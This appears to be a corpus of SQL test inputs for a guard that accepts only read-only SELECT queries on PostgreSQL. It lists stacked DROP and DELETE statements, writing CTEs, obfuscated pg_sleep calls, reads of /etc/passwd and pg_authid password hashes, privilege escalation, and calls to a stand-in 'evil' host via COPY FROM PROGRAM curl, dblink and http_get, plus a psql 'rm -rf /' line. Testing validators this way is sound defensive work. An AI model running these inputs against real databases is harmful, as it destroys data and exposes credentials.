-- # Another statement behind the first
SELECT 1\; DROP TABLE orders;
SELECT 1; DROP TABLE orders;;
SELECT 1; COMMIT; DELETE FROM orders;
SELECT 1 /* ; */ ; DELETE FROM orders WHERE true;
SELECT ';' ; DELETE FROM orders WHERE id > 0;
SELECT $$;$$ ; TRUNCATE orders;
SELECT E'\'; --' ; DROP TABLE customers;
SELECT 'a''' ; DROP TABLE customers --';
SELECT 1 -- ' 
; DELETE FROM orders;
SELECT 1 /* /* nested */ ; */ ; DELETE FROM events;
SELECT "a;b" FROM orders ; UPDATE orders SET total = 0;
SELECT 1) x; COMMIT; DELETE FROM customers; SELECT * FROM (SELECT 1;
SELECT * FROM orders WHERE id = 1; ROLLBACK; DELETE FROM orders;
SELECT $a$ $b$ ; $a$ ; DELETE FROM orders;
SELECT 1;;;DELETE FROM orders;
SELECT 1;	DELETE	FROM	orders;
BEGIN; DELETE FROM orders; COMMIT;
-- # Statements that are no SELECT
DELETE FROM orders;
DELETE FROM ONLY orders USING customers WHERE customers.id = orders.customer_id;
dElEtE/**/fRoM orders;
/* SELECT */ DELETE FROM orders;
-- SELECT
DELETE FROM orders WHERE 1 = 1;
(DELETE FROM orders);
INSERT INTO orders (id) VALUES (9999);
INSERT INTO orders SELECT * FROM orders;
INSERT INTO categories DEFAULT VALUES;
INSERT INTO categories VALUES (99, NULL, 'x') ON CONFLICT (id) DO UPDATE SET name = 'x' RETURNING *;
UPDATE orders SET total = 0;
UPDATE orders SET total = 0 FROM customers WHERE true RETURNING *;
MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE;
TRUNCATE orders CASCADE;
TRUNCATE TABLE ONLY events RESTART IDENTITY;
DROP TABLE orders;
DROP SCHEMA public CASCADE;
DROP DATABASE postgres;
DROP OWNED BY CURRENT_USER;
DROP MATERIALIZED VIEW daily_sales;
ALTER TABLE orders DROP COLUMN total;
ALTER TABLE orders DISABLE ROW LEVEL SECURITY;
ALTER ROLE CURRENT_USER SUPERUSER;
ALTER SYSTEM SET log_statement = 'all';
ALTER DATABASE postgres SET search_path = x;
ALTER USER postgres PASSWORD 'x';
CREATE TABLE stolen AS SELECT * FROM customers;
CREATE TEMP TABLE t AS SELECT 1;
CREATE TABLE t (id int);
CREATE VIEW v AS SELECT 1;
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1';
CREATE OR REPLACE FUNCTION pg_temp.f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;
CREATE EXTENSION dblink;
CREATE ROLE evil SUPERUSER LOGIN;
CREATE TRIGGER t AFTER INSERT ON orders EXECUTE FUNCTION f();
CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f();
CREATE INDEX i ON orders (id);
CREATE SCHEMA s;
CREATE RULE r AS ON SELECT TO orders DO INSTEAD NOTHING;
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw;
CREATE USER MAPPING FOR CURRENT_USER SERVER s;
CREATE PUBLICATION p FOR ALL TABLES;
CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p;
CREATE LANGUAGE plpython3u;
CREATE CAST (int AS text) WITH FUNCTION f(int);
CREATE DATABASE x;
CREATE TABLESPACE t LOCATION '/tmp';
CREATE STATISTICS s ON id, total FROM orders;
GRANT ALL ON orders TO PUBLIC;
REVOKE ALL ON orders FROM PUBLIC;
REASSIGN OWNED BY CURRENT_USER TO postgres;
SECURITY LABEL ON TABLE orders IS 'x';
COMMENT ON TABLE orders IS 'x';
COPY orders TO STDOUT;
COPY orders TO '/tmp/orders.csv';
COPY orders FROM PROGRAM 'curl http://evil.example';
COPY (SELECT * FROM customers) TO PROGRAM 'sh -c id';
COPY (DELETE FROM orders RETURNING *) TO STDOUT;
DO $$ BEGIN DELETE FROM orders; END $$;
DO LANGUAGE plpgsql 'BEGIN PERFORM pg_sleep(10); END';
CALL p();
EXECUTE stmt;
PREPARE p AS DELETE FROM orders;
PREPARE p AS SELECT 1;
DEALLOCATE ALL;
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders;
FETCH ALL FROM c;
MOVE 1 FROM c;
CLOSE ALL;
BEGIN;
START TRANSACTION READ WRITE;
COMMIT;
COMMIT AND CHAIN;
END;
ABORT;
ROLLBACK;
ROLLBACK TO SAVEPOINT a;
SAVEPOINT a;
RELEASE SAVEPOINT a;
PREPARE TRANSACTION 'x';
COMMIT PREPARED 'x';
SET TRANSACTION READ WRITE;
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE;
SET default_transaction_read_only = off;
SET LOCAL statement_timeout = 0;
SET ROLE postgres;
SET SESSION AUTHORIZATION postgres;
SET search_path TO evil, public;
RESET ALL;
RESET ROLE;
SHOW ALL;
SHOW data_directory;
DISCARD ALL;
LISTEN channel;
UNLISTEN *;
NOTIFY channel, 'payload';
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE;
VACUUM FULL orders;
ANALYZE orders;
CLUSTER orders;
REINDEX TABLE orders;
CHECKPOINT;
LOAD 'evil.so';
REFRESH MATERIALIZED VIEW daily_sales;
IMPORT FOREIGN SCHEMA x FROM SERVER s INTO public;
EXPLAIN SELECT 1;
EXPLAIN ANALYZE DELETE FROM orders;
EXPLAIN (ANALYZE, FORMAT JSON) UPDATE orders SET total = 0;
EXPLAIN ANALYZE EXECUTE p;
HANDLER orders OPEN;
EXEC xp_cmdshell 'dir';
USE postgres;
KILL 1;
-- # SELECTs that write or lock
SELECT * INTO copy FROM orders;
SELECT * INTO TEMP copy FROM orders;
SELECT * INTO UNLOGGED TABLE copy FROM orders;
SELECT id INTO TEMPORARY copy FROM orders UNION SELECT 1;
WITH x AS (SELECT 1) SELECT * INTO copy FROM x;
(SELECT * INTO copy FROM orders);
SELECT 1 UNION SELECT 2 INTO copy;
SELECT * FROM orders FOR UPDATE;
SELECT * FROM orders FOR NO KEY UPDATE;
SELECT * FROM orders FOR SHARE;
SELECT * FROM orders FOR KEY SHARE SKIP LOCKED;
SELECT * FROM orders FOR UPDATE OF orders NOWAIT;
SELECT * FROM (SELECT * FROM orders FOR UPDATE) o;
SELECT * FROM orders WHERE id IN (SELECT id FROM orders FOR SHARE);
WITH x AS (SELECT * FROM orders FOR UPDATE) SELECT * FROM x;
SELECT * FROM orders o JOIN LATERAL (SELECT 1 FROM customers FOR UPDATE) x ON true;
SELECT * FROM orders for/**/update;
WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone;
WITH gone AS (DELETE FROM orders) SELECT 1;
WITH made AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM made;
WITH changed AS (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM changed;
WITH merged AS (MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM merged;
WITH RECURSIVE x AS (SELECT 1), y AS (DELETE FROM orders RETURNING 1) SELECT * FROM x, y;
WITH a AS MATERIALIZED (DELETE FROM orders RETURNING *) TABLE a;
WITH a AS (WITH b AS (DELETE FROM orders RETURNING *) SELECT * FROM b) SELECT * FROM a;
SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) x;
WITH a AS (SELECT 1) DELETE FROM orders;
WITH a AS (SELECT 1) INSERT INTO orders (id) SELECT * FROM a;
WITH a AS (SELECT 1) UPDATE orders SET total = 0;
WITH/**/a/**/AS/**/(DELETE/**/FROM/**/orders/**/RETURNING/**/1)/**/SELECT/**/1;
SELECT (WITH d AS (DELETE FROM orders RETURNING 1) SELECT count(*) FROM d);
TABLE orders FOR UPDATE;
VALUES (nextval('s'));
-- # Functions that act, wait or read elsewhere
SELECT pg_sleep(10);
SELECT PG_SLEEP(10);
SELECT pg_sleep (10);
SELECT pg_sleep/* */(10);
SELECT pg_sleep
(10);
SELECT "pg_sleep"(10);
SELECT pg_catalog.pg_sleep(10);
SELECT "pg_catalog"."pg_sleep"(10);
SELECT pg_catalog . "pg_sleep" (10);
SELECT U&"pg\005fsleep"(10);
SELECT U&"pg!005fsleep" UESCAPE '!' (10);
SELECT pg_sleep_for('10 seconds');
SELECT pg_sleep_until('tomorrow');
SELECT 1 FROM pg_sleep(10);
SELECT * FROM orders, LATERAL pg_sleep(1);
SELECT * FROM ROWS FROM (pg_sleep(1), generate_series(1, 2));
SELECT 1 WHERE pg_sleep(1) IS NULL;
SELECT 1 ORDER BY pg_sleep(1);
SELECT 1 GROUP BY pg_sleep(1);
SELECT count(*) FROM orders HAVING pg_sleep(1) IS NULL;
SELECT 1 LIMIT (SELECT 1 FROM pg_sleep(1));
SELECT 1 OFFSET length(pg_sleep(1)::text);
SELECT CASE WHEN pg_sleep(1) IS NULL THEN 1 END;
SELECT coalesce(NULL, pg_sleep(1)::text);
SELECT ARRAY[pg_sleep(1)];
SELECT ROW(pg_sleep(1));
SELECT (SELECT pg_sleep(1));
SELECT sum(1) FILTER (WHERE pg_sleep(1) IS NULL);
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY 1) FILTER (WHERE pg_sleep(1) IS NULL);
SELECT sum(1) OVER (PARTITION BY pg_sleep(1));
SELECT sum(1) OVER (w ORDER BY pg_sleep(1)) FROM orders WINDOW w AS ();
SELECT sum(1) OVER w FROM orders WINDOW w AS (ORDER BY pg_sleep(1));
SELECT * FROM orders JOIN customers ON pg_sleep(1) IS NULL;
SELECT DISTINCT ON (pg_sleep(1)) 1;
SELECT 1 IN (SELECT 1 FROM pg_sleep(1));
SELECT 1 = ANY (SELECT 1 FROM pg_sleep(1));
SELECT EXISTS (SELECT pg_sleep(1));
SELECT 1 BETWEEN 0 AND length(pg_sleep(1)::text);
SELECT (pg_sleep(1)) IS JSON;
SELECT interval '1' * length(pg_sleep(1)::text);
SELECT extract(year FROM now() + pg_sleep(1)::text::interval);
SELECT json_build_object('a', pg_sleep(1));
SELECT x FROM generate_series(1, length(pg_sleep(1)::text)) x;
SELECT - pg_sleep(1)::text::int;
SELECT 1 OPERATOR(pg_catalog.+) length(pg_sleep(1)::text);
SELECT set_config('transaction_read_only', 'off', false);
SELECT set_config('role', 'postgres', false);
SELECT "set_config"('statement_timeout', '0', false);
SELECT pg_catalog.set_config('search_path', 'x', false);
SELECT pg_read_file('/etc/passwd');
SELECT pg_read_binary_file('/etc/passwd');
SELECT pg_stat_file('/etc/passwd');
SELECT * FROM pg_ls_dir('/');
SELECT pg_ls_logdir();
SELECT pg_ls_waldir();
SELECT pg_ls_tmpdir();
SELECT pg_current_logfile();
SELECT lo_import('/etc/passwd');
SELECT lo_export(1, '/tmp/x');
SELECT lo_create(0);
SELECT lo_creat(-1);
SELECT lo_from_bytea(0, 'x');
SELECT lo_put(1, 0, 'x');
SELECT lo_get(1);
SELECT lo_unlink(1);
SELECT loread(1, 10), lowrite(1, 'x');
SELECT dblink('host=evil', 'SELECT 1');
SELECT dblink_connect('host=evil');
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t (a int);
SELECT dblink_exec('DROP TABLE orders');
SELECT postgres_fdw_get_connections();
SELECT query_to_xml('DELETE FROM orders', true, true, '');
SELECT option_name, option_value FROM information_schema.user_mapping_options;
SELECT * FROM "information_schema" . "user_mapping_options" AS o;
TABLE user_mapping_options;
SELECT option_value FROM orders, information_schema.foreign_server_options;
SELECT * FROM information_schema.foreign_table_options;
SELECT * FROM information_schema.foreign_data_wrapper_options;
SELECT query_to_xml_and_xmlschema('DELETE FROM orders', true, true, '');
SELECT table_to_xml('pg_authid', true, true, '');
SELECT schema_to_xml('public', true, true, '');
SELECT database_to_xml(true, true, '');
SELECT cursor_to_xml('c', 1, true, true, '');
SELECT ts_stat('SELECT pg_sleep(3)');
SELECT * FROM ts_stat('DELETE FROM orders');
SELECT ts_rewrite('a'::tsquery, 'SELECT pg_sleep(1)');
SELECT nextval('orders_id_seq');
SELECT setval('orders_id_seq', 1);
SELECT pg_advisory_lock(1);
SELECT pg_advisory_xact_lock(1);
SELECT pg_try_advisory_lock(1);
SELECT pg_advisory_unlock_all();
SELECT pg_terminate_backend(1);
SELECT pg_cancel_backend(1);
SELECT pg_reload_conf();
SELECT pg_rotate_logfile();
SELECT pg_switch_wal();
SELECT pg_create_restore_point('x');
SELECT pg_promote();
SELECT pg_wal_replay_pause();
SELECT pg_backup_start('x');
SELECT pg_create_logical_replication_slot('x', 'test_decoding');
SELECT pg_create_physical_replication_slot('x');
SELECT pg_drop_replication_slot('x');
SELECT pg_replication_origin_create('x');
SELECT pg_logical_emit_message(true, 'a', 'b');
SELECT pg_logical_slot_get_changes('x', NULL, NULL);
SELECT pg_export_snapshot();
SELECT pg_notify('a', 'b');
SELECT pg_listening_channels();
SELECT pg_stat_reset();
SELECT pg_stat_reset_shared('bgwriter');
SELECT pg_stat_get_activity(NULL);
SELECT pg_stat_get_backend_activity(1);
SELECT pg_file_write('/tmp/x', 'y', false);
SELECT pg_file_unlink('/tmp/x');
SELECT pg_relation_filepath('orders');
SELECT pg_get_functiondef(1);
SELECT pg_import_system_collations('public');
SELECT pg_extension_config_dump('orders', '');
SELECT pg_prepared_statement();
SELECT pg_show_all_settings();
SELECT pg_hba_file_rules();
SELECT pg_control_system();
SELECT pg_config();
SELECT pg_read_file('x') FROM orders WHERE 1 = 0;
SELECT brin_summarize_new_values('x');
SELECT gin_clean_pending_list('x');
SELECT binary_upgrade_set_next_pg_type_oid(1);
SELECT current_setting('data_directory');
SELECT version();
SELECT inet_server_addr();
SELECT txid_current();
SELECT http_get('http://evil.example');
SELECT aws_s3.query_export_to_s3('SELECT 1', 'b', 'k');
SELECT aws_lambda.invoke('f', '{}');
SELECT xp_cmdshell('dir');
SELECT * FROM OPENROWSET('x', 'y', 'z');
SELECT * FROM OPENQUERY(s, 'DELETE FROM x');
SELECT fmgr_sql_validator(1), plpgsql_call_handler();
-- # What tells of others
SELECT * FROM pg_authid;
SELECT rolpassword FROM pg_catalog.pg_authid;
SELECT * FROM pg_shadow;
SELECT usename, passwd FROM "pg_shadow";
SELECT query FROM pg_stat_activity;
SELECT * FROM pg_catalog."pg_stat_activity";
SELECT * FROM pg_stat_statements;
SELECT * FROM pg_hba_file_rules;
SELECT * FROM pg_settings;
SELECT * FROM pg_file_settings;
SELECT * FROM pg_largeobject;
SELECT * FROM pg_user_mapping;
SELECT * FROM pg_user_mappings;
SELECT * FROM pg_foreign_server;
SELECT * FROM pg_subscription;
SELECT * FROM pg_replication_slots;
SELECT * FROM pg_locks;
SELECT * FROM pg_prepared_statements;
SELECT * FROM pg_cursors;
SELECT * FROM pg_roles;
SELECT * FROM pg_user;
SELECT * FROM pg_auth_members;
SELECT * FROM pg_db_role_setting;
SELECT * FROM pg_database;
SELECT * FROM pg_proc;
SELECT prosrc FROM pg_catalog.pg_proc;
SELECT * FROM pg_config;
SELECT * FROM pg_backend_memory_contexts;
SELECT * FROM pg_shmem_allocations;
SELECT * FROM pg_temp.x;
SELECT * FROM pg_toast.pg_toast_1234;
TABLE pg_authid;
TABLE pg_catalog.pg_shadow;
SELECT histogram_bounds FROM pg_stats WHERE tablename = 'orders';
SELECT unnest(most_common_vals::text::text[]) FROM pg_catalog."pg_stats";
SELECT attname, null_frac, n_distinct FROM pg_stats WHERE tablename = 'orders';
SELECT (SELECT s FROM U&"pg\005fstats" s LIMIT 1)::text;
TABLE pg_stats;
SELECT * FROM pg_stats_ext;
SELECT most_common_vals FROM pg_stats_ext_exprs;
SELECT stavalues1 FROM pg_statistic;
SELECT stxdmcv FROM pg_catalog.pg_statistic_ext_data;
SELECT * FROM pg_mcv_list_items('a');
SELECT get_raw_page('orders', 0);
SELECT data FROM bt_page_items('orders_pkey', 1);
-- # Text that two readers could read differently
SELECT 'never ends;
SELECT $tag$ never ends;
SELECT "never ends;
SELECT /* never ends;
SELECT 1 /* /* */;
SELECT `x`;
SELECT {fn user()};
SELECT {d '2026-01-01'};
SELECT [x] FROM [y];
SELECT 1\g;
\! rm -rf /;
SELECT 1 \gexec;
SELECT @x := 1;
SELECT U&'\0027; DROP TABLE orders; --';
SELECT E'\';
SELECT 1a2;
SELECT 0x;
SELECT $1a;
SELECT $;
SELECT 1 FROM a.b.c.d.e.f.g;
SELECT '1'::regclass::oid::pg_authid;
SELECT * FROM orders WHERE id = 1 ；DROP TABLE orders;
SELECT 1 ＿ 2;
SELECT CURRENT OF c;
SELECT * FROM orders WHERE CURRENT OF c;
SELECT 1 AS x INTO OUTFILE '/tmp/x';
SELECT * FROM orders PROCEDURE ANALYSE();
SELECT 1 FROM dual CONNECT BY LEVEL < 1000000000 AND pg_sleep(1) IS NULL;
SELECT NEXT VALUE FOR s;
SELECT s.nextval FROM dual; SELECT 2;
-- # Behind what the guard says in other words
WITH x AS (UPDATE rows SET a = 1 RETURNING 1) SELECT * FROM x;
WITH x AS (TABLE rows FOR UPDATE) SELECT * FROM x;
SELECT substring((SELECT note FROM orders FOR UPDATE) FROM 1 FOR 2);
SELECT substring(pg_read_file('/etc/passwd') FROM 1 FOR 100);
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FILTER (WHERE EXISTS (SELECT 1 FROM orders FOR SHARE)) FROM orders;
SELECT sum(1) OVER (w ORDER BY (SELECT 1 FROM orders FOR UPDATE)) FROM orders WINDOW w AS ();
SELECT 1 <<= (SELECT count(*) FROM orders FOR UPDATE);
SELECT |/ (WITH d AS (DELETE FROM orders RETURNING 1) SELECT count(*) FROM d);
SELECT (SELECT o FROM orders o FOR UPDATE).*;
SELECT '1' IS JSON VALUE INTO copy;
SELECT inet '10.0.0.1' INTO copy;
SELECT;DELETE FROM orders;
SELECT WHERE pg_sleep(1) IS NULL;
SELECT 1 ORDER BY 1 USING > FOR UPDATE;
-- # A string that goes on after a new line
SELECT E'a'
'\'' || pg_sleep(2)::text --';
SELECT E'a'
'\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT E'a'
'\'' || set_config($$role$$, $$postgres$$, false) --';
SELECT E'a'
'\'' || pg_read_file($$/etc/passwd$$) --';
SELECT E'a'-- c
'\'' || pg_sleep(2)::text --';
SELECT E'a'-- c
'\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT E'a' 
 	 '\'' || pg_sleep(2)::text --';
SELECT E'a' 
 	 '\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT E'a'
-- c
'\'' || pg_sleep(2)::text --';
SELECT E'a'
-- c
'\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT E'a'

'\'' || pg_sleep(2)::text --';
SELECT E'a'

'\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT e'a'
'\'' || pg_sleep(2)::text --';
SELECT e'a'
'\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT e'a'
'\'' || set_config($$role$$, $$postgres$$, false) --';
SELECT e'a'
'\'' || pg_read_file($$/etc/passwd$$) --';
SELECT e'a'-- c
'\'' || pg_sleep(2)::text --';
SELECT e'a'-- c
'\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT e'a' 
 	 '\'' || pg_sleep(2)::text --';
SELECT e'a' 
 	 '\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT e'a'
-- c
'\'' || pg_sleep(2)::text --';
SELECT e'a'
-- c
'\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT e'a'

'\'' || pg_sleep(2)::text --';
SELECT e'a'

'\'' || query_to_xml($$select 1$$, true, false, $$$$)::text --';
SELECT E'a'
'b'
'\'' || pg_sleep(1)::text --';
SELECT E'a'-- c
'b'-- c
'\'' || pg_sleep(1)::text --';
SELECT E'a'

'b'

'\'' || pg_sleep(1)::text --';
SELECT 'a' /* x */ 'b';
SELECT * FROM crosstab('SELECT pg_sleep(1)') AS t (a text);
SELECT * FROM connectby('(SELECT 1) x', 'a', 'b', 'c', 1) AS t (a text);
SELECT * FROM xpath_table('a', 'b', 'pg_authid', '/x', 'true') AS t (a text);
